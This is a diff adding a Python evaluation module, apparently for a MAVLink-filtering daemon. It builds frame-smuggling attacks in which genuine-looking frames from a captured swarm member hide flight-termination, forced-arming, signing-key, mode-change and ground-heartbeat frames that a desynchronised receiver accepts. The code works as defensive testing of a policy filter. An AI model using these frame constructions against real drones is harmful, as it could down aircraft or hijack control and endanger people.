@@ -1,0 +1,257 @@
+"""Attacks of a captured member: frames that policy passes, in which a receiver finds one that policy refuses.
+
+The attacker has the keys of one member (or of two), so its envelopes are genuine. Every frame that it sends passes
+policy by itself. The receiver reads the same bytes by another dialect, or loses its place, and then accepts a frame
+that was hidden in them.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Mapping
+from struct import pack
+from typing import Final, NamedTuple
+
+from uavlinkd.lab.evaluation.hidden_frames import Carrier, frame, hide
+from uavlinkd.mavlink.dialect import ids_by_name
+from uavlinkd.mavlink.dialect_table import COMMANDS, MESSAGES
+from uavlinkd.mavlink.frames import MAVLINK1
+
+MEMBER: Final = 2
+OTHER_MEMBER: Final = 3
+TABLET: Final = 200
+GROUND: Final = 255
+VICTIM: Final = 1
+
+_ID: Final = ids_by_name()
+_MEMBER: Final = {"role": "swarm-member", "system_ids": [MEMBER]}
+_OTHER: Final = {"role": "swarm-member", "system_ids": [OTHER_MEMBER]}
+_VEHICLE: Final = {"role": "vehicle", "system_ids": [MEMBER]}
+_OBSERVER: Final = {"role": "observer", "system_ids": [TABLET]}
+_OPERATOR: Final = {"role": "operator", "system_ids": [GROUND], "deny_in": ["MAV_CMD_DO_FLIGHTTERMINATION"]}
+_ANYTHING: Final[Mapping[str, object]] = {"role": "all", "system_ids": "all"}
+
+
+class Attack(NamedTuple):
+    """One attempt."""
+
+    name: str
+    members: tuple[Mapping[str, object], ...]
+    """The policy of each captured member, as the victim's daemon has it."""
+    frames: tuple[tuple[int, bytes], ...]
+    """What they send in turn: which member, and the frame."""
+    goal: bytes
+    """The hidden frame as a receiver accepts it."""
+
+    @property
+    def stream(self) -> bytes:
+        """What reaches the receiver if nothing is refused and nothing added."""
+        return b"".join(raw for _, raw in self.frames)
+
+
+def command_long(command: str, system: int, *params: float, version: int = 2, target: int = VICTIM) -> bytes:
+    """COMMAND_LONG to a system's autopilot, without confirmation."""
+    seven = (*params, *(0.0,) * (7 - len(params)))
+    payload = pack("<7fHBBB", *seven, COMMANDS[f"MAV_CMD_{command}"], target, 1, 0)
+    return frame(_ID["COMMAND_LONG"], payload, system, 190, version=version)
+
+
+def set_mode(system: int, version: int = 2) -> bytes:
+    """SET_MODE."""
+    return frame(_ID["SET_MODE"], pack("<IBB", 4, VICTIM, 1), system, 190, version=version)
+
+
+def setup_signing(system: int) -> bytes:
+    """SETUP_SIGNING with a key of the attacker's."""
+    return frame(_ID["SETUP_SIGNING"], pack("<QBB", 1, VICTIM, 1) + b"K" * 32, system, 190)
+
+
+def ground_heartbeat(version: int = 2) -> bytes:
+    """HEARTBEAT of a ground station, which keeps an autopilot's failsafe quiet."""
+    return frame(_ID["HEARTBEAT"], pack("<IBBBBB", 0, 6, 8, 0, 4, 3), GROUND, 190, version=version)
+
+
+def terminate(system: int = GROUND, version: int = 2) -> bytes:
+    """The command that ends a flight."""
+    return command_long("DO_FLIGHTTERMINATION", system, 1.0, version=version)
+
+
+GOALS: Final[Mapping[str, Callable[[], bytes]]] = {
+    "flight termination": terminate,
+    "forced arming": lambda: command_long("COMPONENT_ARM_DISARM", GROUND, 1.0, 21196.0),
+    "SETUP_SIGNING": lambda: setup_signing(GROUND),
+    "SET_MODE": lambda: set_mode(GROUND),
+    "a ground station's HEARTBEAT": ground_heartbeat,
+}
+
+# A receiver that rejected a checksum reads these last bytes of a signature as the start of a frame of an unknown
+# message, which ends with the next frame's header.
+_SHIFTS: Final = bytes((0xFD, 8, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF))
+
+
+def signed_unknown(
+    name: str, policy: Mapping[str, object], system: int, lacking: int, carrier: int, goal: bytes
+) -> Attack:
+    """A signed frame of a message that the receiver lacks shifts it into the next frame's payload."""
+    return _two(name, policy, goal, Carrier(lacking, bytearray(6), system, signature=_signature()), carrier, system)
+
+
+def checksum_start(
+    name: str, policy: Mapping[str, object], system: int, lacking: int, carrier: int, goal: bytes
+) -> Attack:
+    """The last byte of a checksum that the receiver rejects is a start byte: the next frame's header is lost."""
+    first = Carrier(lacking, bytearray(6), system, checksum_ends_in=0xFD)
+    return _two(name, policy, goal, first, carrier, system)
+
+
+def _signature() -> bytearray:
+    return bytearray(_SHIFTS.rjust(13, b"\0"))
+
+
+def _two(name: str, policy: Mapping[str, object], goal: bytes, first: Carrier, carrier: int, system: int) -> Attack:
+    second = Carrier(carrier, bytearray(max(20, len(goal))), system)
+    frames = hide([first, second], goal, first.size + second.payload_at)
+    return Attack(name, (policy,), tuple((0, raw) for raw in frames), goal)
+
+
+def within(name: str, policy: Mapping[str, object], carrier: Carrier, goal: bytes, at: int = 0) -> Attack:
+    """A whole frame inside a payload, for a receiver that does not know where frames begin."""
+    raw = hide([carrier], goal, carrier.payload_at + at)
+    return Attack(name, (policy,), ((0, raw[0]),), goal)
+
+
+def legal_lengths(lacking: int) -> Attack:
+    """The same as `signed_unknown`, in frames no longer than defined: the hidden one begins in the signature."""
+    goal = terminate(version=1)
+    first = Carrier(lacking, bytearray(6), TABLET, signature=bytearray(13))
+    second = Carrier(_ID["PARAM_REQUEST_READ"], bytearray(20), TABLET)
+    frames = hide([first, second], goal, first.size - 13)
+    at = first.size - 13
+    hidden = b"".join(frames)[at : at + len(goal)]
+    return Attack("observer: legal lengths", (_OBSERVER,), tuple((0, raw) for raw in frames), hidden)
+
+
+def two_members(version: int) -> Attack:
+    """The hidden frame begins in one member's frame and ends in the other's."""
+    goal = terminate(version=version)
+    first = Carrier(_ID["HOME_POSITION"], bytearray(60), MEMBER)
+    second = Carrier(_ID["HOME_POSITION"], bytearray(60), OTHER_MEMBER)
+    at = first.size - 2 - 17  # its header and its first parameter
+    frames = hide([first, second], goal, at)
+    hidden = b"".join(frames)[at : at + len(goal)]
+    return Attack(f"two members, MAVLink {version}", (_MEMBER, _OTHER), ((0, frames[0]), (1, frames[1])), hidden)
+
+
+def restart_in_mavlink1(lacking: int) -> Attack:
+    """A rejected MAVLink 1 frame ends in 0xFD: the C library goes on there in MAVLink 1.
+
+    It reads the next frame's start byte as a length, its length as a sequence number, and so on.
+    """
+    first = Carrier(lacking, bytearray(MESSAGES[lacking][2]), MEMBER, version=1, checksum_ends_in=0xFD)
+    # Sequence number and component are what it takes for system and message.
+    second = Carrier(_ID["STATUSTEXT"], bytearray(51), MEMBER, _ID["COMMAND_LONG"], version=1, seq=GROUND)
+    third = Carrier(_ID["FILE_TRANSFER_PROTOCOL"], bytearray(254), MEMBER)
+    at = first.size - 1
+    wanted = bytearray(6 + MAVLINK1 + 2)
+    wanted[0], wanted[3], wanted[5] = MAVLINK1, GROUND, _ID["COMMAND_LONG"]
+    wanted[6 : 6 + 33] = terminate(version=1)[6:-2]
+    frames = hide([first, second, third], bytes(wanted), at)
+    hidden = bytes((MAVLINK1,)) + b"".join(frames)[at + 1 : at + len(wanted)]
+    return Attack("vehicle: restart in MAVLink 1", (_VEHICLE,), tuple((0, raw) for raw in frames), hidden)
+
+
+def read_as_mavlink1() -> Attack:
+    """A MAVLink 2 frame that is a MAVLink 1 frame, too, for a receiver that goes on in MAVLink 1 at its start byte.
+
+    Such a receiver lost bytes inside a MAVLink 1 frame, whose last byte it then took to be this start byte.
+    """
+    carrier = Carrier(_ID["HOME_POSITION"], bytearray(60), MEMBER, _ID["COMMAND_LONG"], compat=GROUND)
+    # Length, 0, 255, sequence number, system: the message's number is its sender's system, 2 (SYSTEM_TIME).
+    raw = hide([carrier], bytes((MAVLINK1, 60, 0, GROUND, 0, MEMBER)) + bytes(62), 0, MESSAGES[MEMBER][1])[0]
+    hidden = bytes((MAVLINK1,)) + raw[1:68]
+    lost = heartbeat_of(MEMBER)
+    return Attack("swarm-member: read as MAVLink 1 after a loss", (_MEMBER,), ((0, lost), (0, raw)), hidden)
+
+
+def heartbeat_of(system: int) -> bytes:
+    """HEARTBEAT of a vehicle in MAVLink 1."""
+    return frame(_ID["HEARTBEAT"], pack("<IBBBBB", 0, 2, 3, 0, 4, 3), system, version=1)
+
+
+def attacks(
+    lacking_observer: int, lacking_vehicle: int, lacking_operator: int, lacking_mavlink1: int
+) -> list[Attack]:
+    """Every attack, against a receiver that lacks these messages of the three roles.
+
+    ``lacking_mavlink1``: a message of a vehicle that MAVLink 1 can number.
+    """
+    read = _ID["PARAM_REQUEST_READ"]
+    observer = [
+        make(f"observer: {goal}, {how}", _OBSERVER, TABLET, lacking_observer, read, GOALS[goal]())
+        for how, make in (("signed", signed_unknown), ("checksum", checksum_start))
+        for goal in GOALS
+    ]
+    long_attitude = Carrier(_ID["ATTITUDE"], bytearray(255), MEMBER)
+    return [
+        *observer,
+        legal_lengths(lacking_observer),
+        signed_unknown(
+            "operator: denied command",
+            _OPERATOR,
+            GROUND,
+            lacking_operator,
+            _ID["FILE_TRANSFER_PROTOCOL"],
+            terminate(),
+        ),
+        signed_unknown(
+            "vehicle: command to the ground station",
+            _VEHICLE,
+            MEMBER,
+            lacking_vehicle,
+            _ID["FILE_TRANSFER_PROTOCOL"],
+            command_long("COMPONENT_ARM_DISARM", MEMBER, 1.0, target=GROUND),
+        ),
+        signed_unknown(
+            "no policy: SETUP_SIGNING",
+            _ANYTHING,
+            GROUND - 1,
+            lacking_operator,
+            _ID["FILE_TRANSFER_PROTOCOL"],
+            setup_signing(GROUND),
+        ),
+        restart_in_mavlink1(lacking_mavlink1),
+        within(
+            "swarm-member: SET_MODE in MAVLink 1",
+            _MEMBER,
+            Carrier(_ID["ATTITUDE"], bytearray(28), MEMBER),
+            set_mode(GROUND, version=1),
+        ),
+        within(
+            "swarm-member: COMMAND_LONG in MAVLink 1",
+            _MEMBER,
+            Carrier(_ID["HOME_POSITION"], bytearray(60), MEMBER),
+            terminate(version=1),
+        ),
+        within(
+            "swarm-member: command after a loss",
+            _MEMBER,
+            Carrier(_ID["HOME_POSITION"], bytearray(60), MEMBER),
+            terminate(),
+        ),
+        within(
+            "swarm-member: command after a loss, ATTITUDE of 255 bytes",
+            _MEMBER,
+            long_attitude,
+            terminate(),
+            at=200,
+        ),
+        within(
+            "swarm-member: a ground station's HEARTBEAT after a loss",
+            _MEMBER,
+            Carrier(_ID["HOME_POSITION"], bytearray(60), MEMBER),
+            ground_heartbeat(),
+            at=38,
+        ),
+        read_as_mavlink1(),
+        two_members(version=1),
+        two_members(version=2),
+    ]
